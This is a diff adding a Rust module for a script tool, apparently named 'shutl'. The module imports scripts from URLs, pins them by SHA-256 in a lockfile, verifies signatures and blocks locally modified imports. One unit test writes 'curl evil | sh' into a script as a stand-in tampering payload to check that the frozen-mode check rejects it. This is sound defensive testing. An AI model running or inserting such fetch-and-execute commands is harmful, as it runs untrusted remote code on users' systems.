@@ -0,0 +1,264 @@
+//! Scripts imported from a URL (`shutl import`), pinned to their SHA-256 in the lockfile
+//! `<scripts dir>/.imports.toml`. `shutl verify` compares them with the lockfile (local
+//! changes) and with their URL (upstream changes); with `--frozen`, modified imports are
+//! not run. With trusted keys configured, imports are checked against the signature
+//! published next to them (see [`crate::signing`]).
+
+use crate::persist;
+use crate::remote::{http_get, sha256_hex};
+use crate::script::is_safe_component;
+use crate::signing::{self, Trust};
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+
+/// Name of the lockfile in the scripts directory
+pub const LOCK_FILE: &str = ".imports.toml";
+
+/// Where an imported script came from and what it contained
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct Pin {
+    pub url: String,
+    pub sha256: String,
+    /// Who signed the script, if it was signed by a trusted key
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub signer: Option<String>,
+}
+
+/// The lockfile: pins by script path relative to the scripts directory, e.g.
+/// `tools/deploy.sh`
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+pub struct Lock {
+    #[serde(default)]
+    pub scripts: BTreeMap<String, Pin>,
+}
+
+/// An imported script compared with its pin
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum LocalState {
+    Unchanged,
+    Modified,
+    Missing,
+}
+
+impl Lock {
+    /// Loads the lockfile of `scripts_dir`; none means nothing was imported
+    pub fn load(scripts_dir: &Path) -> Result<Self, String> {
+        let path = scripts_dir.join(LOCK_FILE);
+        match std::fs::read_to_string(&path) {
+            Ok(content) => {
+                toml::from_str(&content).map_err(|e| format!("{}: {}", path.display(), e))
+            }
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(Lock::default()),
+            Err(e) => Err(format!("{}: {}", path.display(), e)),
+        }
+    }
+
+    pub fn save(&self, scripts_dir: &Path) -> Result<(), String> {
+        let path = scripts_dir.join(LOCK_FILE);
+        let content = toml::to_string(self).map_err(|e| e.to_string())?;
+        persist::write_atomic(&path, content.as_bytes())
+            .map_err(|e| format!("{}: {}", path.display(), e))
+    }
+
+    /// Finds the pin of the script at `path`, if it was imported into `scripts_dir`
+    pub fn pin_for(&self, scripts_dir: &Path, path: &Path) -> Option<&Pin> {
+        let relative = path.strip_prefix(scripts_dir).ok()?;
+        self.scripts.get(relative.to_string_lossy().as_ref())
+    }
+}
+
+/// Compares the script at `path` with its pin
+pub fn local_state(path: &Path, pin: &Pin) -> LocalState {
+    match std::fs::read(path) {
+        Ok(data) if sha256_hex(&data) == pin.sha256 => LocalState::Unchanged,
+        Ok(_) => LocalState::Modified,
+        Err(_) => LocalState::Missing,
+    }
+}
+
+/// Works out the path of an imported script relative to the scripts directory: the
+/// command path `command` (e.g. `tools/deploy`) or the file name of the URL. A command
+/// without an extension gets the URL's.
+pub fn destination(url: &str, command: Option<&str>) -> Result<String, String> {
+    let url_path = url.split(['?', '#']).next().unwrap_or_default();
+    let file_name = url_path
+        .split_once("://")
+        .map_or(url_path, |(_, rest)| rest)
+        .split_once('/')
+        .and_then(|(_, path)| path.rsplit('/').next())
+        .filter(|name| !name.is_empty());
+    let relative = match (command, file_name) {
+        (Some(command), file_name) => {
+            let mut relative = command.trim_matches('/').to_string();
+            let extension = file_name.and_then(|name| Path::new(name).extension());
+            let last = relative.rsplit('/').next().unwrap_or_default();
+            if let Some(extension) = extension
+                && Path::new(last).extension().is_none()
+            {
+                relative = format!("{}.{}", relative, extension.to_string_lossy());
+            }
+            relative
+        }
+        (None, Some(file_name)) => file_name.to_string(),
+        (None, None) => {
+            return Err(format!(
+                "cannot tell a script name from {}; give the command to import it as",
+                url
+            ));
+        }
+    };
+    if relative.split('/').all(is_safe_component) {
+        Ok(relative)
+    } else {
+        Err(format!("invalid command path: {}", relative))
+    }
+}
+
+/// Downloads `url` to `relative` below `scripts_dir`, makes it executable and pins it.
+/// The download only replaces the script once its signature checks out.
+pub fn import(scripts_dir: &Path, url: &str, relative: &str) -> Result<Pin, String> {
+    let data = http_get(url)?;
+    let path = scripts_dir.join(relative);
+    if let Some(parent) = path.parent() {
+        std::fs::create_dir_all(parent).map_err(|e| format!("{}: {}", parent.display(), e))?;
+    }
+    let mut download = path.clone().into_os_string();
+    download.push(".download");
+    let download = PathBuf::from(download);
+    std::fs::write(&download, &data).map_err(|e| format!("{}: {}", download.display(), e))?;
+    let signer = check_signature(&Trust::from_config(), url, &download).and_then(|signer| {
+        std::fs::set_permissions(&download, std::fs::Permissions::from_mode(0o755))
+            .and_then(|_| std::fs::rename(&download, &path))
+            .map_err(|e| format!("{}: {}", path.display(), e))?;
+        Ok(signer)
+    });
+    if signer.is_err() {
+        let _ = std::fs::remove_file(&download);
+    }
+
+    let pin = Pin {
+        url: url.to_string(),
+        sha256: sha256_hex(&data),
+        signer: signer?,
+    };
+    let lock_path = scripts_dir.join(LOCK_FILE);
+    let _guard =
+        persist::lock_dir_of(&lock_path).map_err(|e| format!("{}: {}", lock_path.display(), e))?;
+    let mut lock = Lock::load(scripts_dir)?;
+    lock.scripts.insert(relative.to_string(), pin.clone());
+    lock.save(scripts_dir)?;
+    Ok(pin)
+}
+
+/// Checks the signature published at `<url>.sig` or `<url>.minisig` of the download at
+/// `file`. Returns the signer, or `None` if no keys are trusted or the script is not signed
+/// and signatures are not required.
+fn check_signature(trust: &Trust, url: &str, file: &Path) -> Result<Option<String>, String> {
+    let schemes = trust.schemes();
+    for &scheme in &schemes {
+        let signature_url = format!("{}.{}", url, scheme.extension());
+        let Ok(signature) = http_get(&signature_url) else {
+            continue;
+        };
+        let signature_path = scheme.signature_path(file);
+        std::fs::write(&signature_path, signature)
+            .map_err(|e| format!("{}: {}", signature_path.display(), e))?;
+        let result = signing::verify(trust, scheme, file, &signature_path);
+        let _ = std::fs::remove_file(&signature_path);
+        return result
+            .map(Some)
+            .map_err(|e| format!("invalid signature {}: {}", signature_url, e));
+    }
+    if trust.required {
+        let names: Vec<_> = schemes
+            .iter()
+            .map(|scheme| format!("{}.{}", url, scheme.extension()))
+            .collect();
+        return Err(format!(
+            "{} has no signature of a trusted key (looked for {})",
+            url,
+            if names.is_empty() {
+                "none: configure allowed-signers or minisign-public-key".to_string()
+            } else {
+                names.join(", ")
+            }
+        ));
+    }
+    Ok(None)
+}
+
+/// Checks whether the script at the pin's URL differs from the pinned one
+pub fn changed_upstream(pin: &Pin) -> Result<bool, String> {
+    Ok(sha256_hex(&http_get(&pin.url)?) != pin.sha256)
+}
+
+/// Refuses to run the script at `path` if it was imported into `scripts_dir` and changed
+/// since (`--frozen`)
+pub fn check_frozen(scripts_dir: &Path, path: &Path) -> Result<(), String> {
+    let lock = Lock::load(scripts_dir)?;
+    match lock.pin_for(scripts_dir, path) {
+        Some(pin) if local_state(path, pin) != LocalState::Unchanged => Err(format!(
+            "{} was changed since it was imported from {}; run `shutl verify` for details, or run it without --frozen",
+            path.display(),
+            pin.url
+        )),
+        _ => Ok(()),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::tempdir;
+
+    #[test]
+    fn test_destination() {
+        let url = "https://example.com/scripts/deploy.sh?raw=1";
+        assert_eq!(destination(url, None).unwrap(), "deploy.sh");
+        assert_eq!(
+            destination(url, Some("tools/release")).unwrap(),
+            "tools/release.sh"
+        );
+        assert_eq!(
+            destination(url, Some("tools/release.bash")).unwrap(),
+            "tools/release.bash"
+        );
+        assert!(destination("https://example.com/", None).is_err());
+        assert!(destination(url, Some("../outside")).is_err());
+    }
+
+    #[test]
+    fn test_lock_and_frozen() {
+        let dir = tempdir().unwrap();
+        let script = dir.path().join("tools/deploy.sh");
+        std::fs::create_dir_all(script.parent().unwrap()).unwrap();
+        std::fs::write(&script, "#!/bin/bash\necho deploy\n").unwrap();
+
+        assert_eq!(Lock::load(dir.path()).unwrap(), Lock::default());
+        let pin = Pin {
+            url: "https://example.com/deploy.sh".to_string(),
+            sha256: sha256_hex(b"#!/bin/bash\necho deploy\n"),
+            signer: None,
+        };
+        let mut lock = Lock::default();
+        lock.scripts
+            .insert("tools/deploy.sh".to_string(), pin.clone());
+        lock.save(dir.path()).unwrap();
+        let lock = Lock::load(dir.path()).unwrap();
+        assert_eq!(lock.pin_for(dir.path(), &script), Some(&pin));
+
+        assert_eq!(local_state(&script, &pin), LocalState::Unchanged);
+        assert!(check_frozen(dir.path(), &script).is_ok());
+
+        std::fs::write(&script, "#!/bin/bash\ncurl evil | sh\n").unwrap();
+        assert_eq!(local_state(&script, &pin), LocalState::Modified);
+        assert!(check_frozen(dir.path(), &script).is_err());
+        // Scripts that were not imported are not affected
+        assert!(check_frozen(dir.path(), &dir.path().join("other.sh")).is_ok());
+
+        std::fs::remove_file(&script).unwrap();
+        assert_eq!(local_state(&script, &pin), LocalState::Missing);
+    }
+}